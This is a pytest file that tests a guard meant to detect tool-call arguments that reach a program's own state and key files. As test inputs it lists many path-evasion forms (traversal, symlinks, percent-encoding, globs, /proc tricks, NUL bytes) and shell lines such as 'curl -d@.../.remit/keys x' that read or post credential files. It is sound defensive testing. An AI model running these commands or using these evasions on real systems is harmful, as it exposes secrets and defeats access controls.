# SPDX-License-Identifier: Apache-2.0
"""The forms in which an argument can name one of remit's own files, and what is not one."""

import itertools
import os
import re
import subprocess
from pathlib import Path
from typing import Any

import pytest

from remit.adapters.runtime import own_files
from remit.adapters.runtime.own_files import PathsOfRemit
from remit.core.cooperative_steps import finish

Json = Any


@pytest.fixture
def home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A folder with a configuration, its state, links to it, and the files of a person."""
    state = tmp_path / ".remit"
    state.mkdir()
    (state / "remit.db").write_text("evidence")
    (tmp_path / "remit.yaml").write_text("upstreams: {}")
    (tmp_path / "link").symlink_to(state)
    (tmp_path / "notes").mkdir()
    (tmp_path / "notes" / "far").symlink_to("../link")
    os.link(state / "remit.db", tmp_path / "copy.db")
    monkeypatch.setenv("HOME", str(tmp_path))
    monkeypatch.setenv("STATE", str(state))
    return tmp_path


def reached(home: Path, arguments: Json) -> str:
    """Return the argument that reaches remit's own files."""
    places = [home / ".remit", home / "remit.yaml"]
    guard = PathsOfRemit(places, {"files": [home / "notes", home, home.parent / "elsewhere"]})
    return finish(guard.reached_by("files", arguments))


FORMS = [
    ".remit", ".remit/keys/token.json", "./.remit/./keys", "notes/../.remit", "../.remit/remit.db",
    "{home}/.remit", "{home}//.remit/", "{home}/notes/../.remit/keys", "~/.remit/keys", "~\\.remit",
    ".REMIT/remit.db", "Remit.YAML", "remit.yaml", "link", "link/new-file", "far/keys", "copy.db",
    ".remit/remit.db-wal", ".remit\\keys", "file://{home}/.remit", "FILE://localhost{home}/.remit/keys",
    "file:{home}/.remit", "file://{home}/%2Eremit/keys", "%2eremit/keys", "%252eremit", "$STATE/keys",
    "${{STATE}}/keys", ".rem*/keys/*", ".remi[t]", ".{{remit,x}}/keys", "{home}/.re?it/keys",
    "/proc/self/cwd/../.remit", "/proc/1/cwd/../.remit", "/proc/self/root{home}/.remit",
    "\uff0eremit/keys", " .remit/keys ", "'.remit'",
]  # fmt: skip


@pytest.mark.parametrize("form", FORMS)
def test_every_form_of_a_path_is_recognised(home: Path, form: str) -> None:
    """Whatever a server makes of the text: links, `..`, case, URLs, encodings, patterns, variables."""
    text = form.format(home=home)
    assert reached(home, {"path": text}) == "path"
    assert reached(home, {"paths": ["notes/a.md", text]}) == "paths"
    assert reached(home, {"edit": {"of": [{text: "x"}]}}) == "edit"


@pytest.mark.parametrize(
    "line",
    ["cat ~/.remit/keys/*", "cd notes; sed p ../.remit/remit.db", 'cp "$STATE" /tmp', "tar c --file=.remit"],
)
def test_every_word_of_a_command_is_read(home: Path, line: str) -> None:
    """A command reaches a file by any of its words."""
    assert reached(home, {"command": line}) == "command"


@pytest.mark.parametrize(
    "line",
    ["cat '{home}'/.re''mit/keys", "cat {home}/.re\\mit/keys", "curl -d@{home}/.remit/keys x",
     "tar c -C{home}/.remit .",
     'cat "${{STATE}}"/keys', "curl -F f=@../.remit/keys x", "cd ..; cd {above}; cat {name}/.remit/keys"],
)  # fmt: skip
def test_a_word_is_read_as_a_shell_reads_it(home: Path, line: str) -> None:
    """Quotes inside a word vanish, an option may touch its path, and `cd` begins at another folder."""
    command = line.format(home=home, above=home.parent, name=home.name)
    for arguments in ({"command": command}, {"runCmdline": command}, {"of": {"cmd": [command]}}):
        assert reached(home, arguments) == next(iter(arguments))


@pytest.mark.parametrize(
    "text",
    ["sqlite:///{home}/.remit/remit.db?mode=ro", "ATTACH '{home}/.remit/remit.db' AS r",
     "a.md,{home}/.remit/keys",
     "svn+unix://{home}/.remit", "![x]({home}//.remit/keys)", "@{home}/.remit/keys", "a.md ~/.remit/keys",
     "x%20{home}%2F.remit", "{home}/.remit/remit.db-wal:ro"],
)  # fmt: skip
def test_a_whole_path_counts_anywhere_in_a_text(home: Path, text: str) -> None:
    """A query, an address or a list may open it; what people read, and longer names, may contain it."""
    text = text.format(home=home)
    assert reached(home, {"q": text}) == "q"
    assert reached(home, {"files": [{"from": text}]}) == "files"
    assert reached(home, {"path": "a.md", "newText": f"see {text} for more"}) == ""
    assert reached(home, {"q": f"{home}/.remit-notes and {home}/remit.yaml.bak"}) == ""


def test_a_folder_that_the_call_names_is_where_its_other_arguments_begin(home: Path) -> None:
    """Servers join a folder and a name; a process's folder may be any."""
    above = str(home.parent)
    for folder in (above, f"{above}/./", "../.."):
        arguments = {"file": f"{home.name}/.remit/keys", "cwd": folder}
        assert reached(home, arguments) == "file"
        assert reached(home, {"args": ["-C", folder, "show", f"HEAD:{home.name}/remit.yaml"]}) == "args"
    assert reached(home, {"file": "other/.remit/keys", "cwd": above}) == ""
    with subprocess.Popen(["/bin/cat"], cwd=above, stdin=subprocess.PIPE) as other:
        assert reached(home, {"path": f"/proc/{other.pid}/cwd/{home.name}/.remit"}) == "path"


def test_a_text_with_one_reading_is_judged_as_if_it_had_many(
    home: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The short way is only shorter: names, links, folders that the call names, blanks, marks."""
    texts = [
        "remit.yaml", "Remit.YAML", ".remit", "link", "copy.db", "a b", "far", "notes", ".", "",
        " remit.yaml", "remit.yaml\n", "re*", "~", "remit.yaml\0", "%2eremit", "keys", "x" * 5000,
        "r\u00e9mit",
    ]  # fmt: skip
    guard = PathsOfRemit([home / ".remit", home / "remit.yaml"], {"files": [home / "notes"]})
    cases = [
        {name: text, "cwd": folder}
        for text, name, folder in itertools.product(texts, ("text", "file", "cmd"), ("", "..", "far"))
    ]
    short = [finish(guard.reached_by("files", one)) for one in cases]
    monkeypatch.setattr(own_files, "_READ_OTHERWISE", re.compile(""))
    assert short == [finish(guard.reached_by("files", one)) for one in cases]
    assert {"", "text", "file", "cmd"} <= set(short)


def test_a_path_counts_however_long_it_is_written(home: Path) -> None:
    """A program shortens a path before it opens it, and the system stops at a NUL."""
    assert reached(home, {"path": "./" * 4000 + "../.remit/keys"}) == "path"
    assert reached(home, {"path": ".remit/keys\0.txt"}) == "path"


@pytest.mark.parametrize("text", ["word", "a file of notes", "notes/a.md"])
def test_however_many_texts_there_are_a_step_asks_the_system_a_few_times(
    home: Path, text: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Words, names and paths: each is looked up, and what is looked up takes its time."""
    asked = list[str]()
    find = os.lstat

    def counted(path: str, **more: int | None) -> os.stat_result:
        asked.append(path)
        return find(path, **more)

    monkeypatch.setattr(os, "lstat", counted)
    guard = PathsOfRemit([home / ".remit"], {"files": [home]})
    most, before = 0, 0
    for _ in guard.reached_by("files", {"texts": [f"{text}{number}" for number in range(500)]}):
        most, before = max(most, len(asked) - before), len(asked)
    assert len(asked) >= 500
    assert max(most, len(asked) - before) <= 32


def test_a_common_word_is_a_folder_only_where_files_are_named(tmp_path: Path) -> None:
    """`tasks` may be remit's folder and any other word: the argument, or a link, tells which."""
    (tmp_path / "tasks").mkdir()
    (tmp_path / "way").symlink_to("tasks")
    guard = PathsOfRemit([tmp_path / "tasks"], {"files": [tmp_path]})
    for arguments, found in (
        ({"query": "tasks"}, ""),
        ({"labels": {"tasks": ["tasks"]}}, ""),
        ({"directory": "tasks"}, "directory"),
        ({"query": "tasks/everyday.yaml"}, "query"),
        ({"name": "way"}, "name"),
    ):
        assert finish(guard.reached_by("files", arguments)) == found


@pytest.mark.parametrize(
    "arguments",
    [
        {"path": "notes/a.md"}, {"path": "."}, {"path": ".remitted"}, {"pattern": "**/*.json"},
        {"text": "the keys are below .remit/keys, see remit.yaml"}, {"path": "\0.remit"}, {"n": 3},
        {"path": ".remit-notes/a.md"}, {"url": "https://example.com/.remit/keys"}, {"command": "ls notes"},
        {"path": "x" * 5000},
    ],
)  # fmt: skip
def test_other_values_pass(home: Path, arguments: Json) -> None:
    """Other files pass, and so does a text that only speaks of remit's files."""
    assert reached(home, arguments) == ""
